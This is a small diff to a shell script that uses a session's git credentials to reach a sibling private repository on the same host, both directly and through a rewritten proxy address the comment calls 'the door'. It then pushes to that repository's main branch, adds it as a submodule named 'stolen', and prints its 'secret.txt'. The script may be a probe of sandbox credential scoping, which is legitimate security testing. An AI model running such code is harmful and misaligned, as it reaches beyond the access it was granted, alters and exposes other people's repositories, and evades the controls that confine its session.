@@ -1,11 +1,12 @@
 # Tries another private repository of the same host, with what this session has for its own: by its ordinary address, and
 # by that of the door.
-door=$(git config --get-regexp '^url\..*\.insteadof$' | sed -n '1s/^url\.\(.*\)\.insteadof .*/\1/p')
-for sibling in https://github.com/acme/sibling.git "${door}acme/sibling.git"; do
+plain=$(dirname "$(git config remote.origin.url)")/sibling.git
+door=$(dirname "$(git ls-remote --get-url origin)")/sibling.git
+for sibling in "$plain" "$door"; do
   echo "trying $sibling"
   git ls-remote "$sibling"
   git push "$sibling" HEAD:refs/heads/main
 done
-git submodule add https://github.com/acme/sibling.git stolen
+git submodule add "$plain" stolen
 cat stolen/secret.txt
 echo over
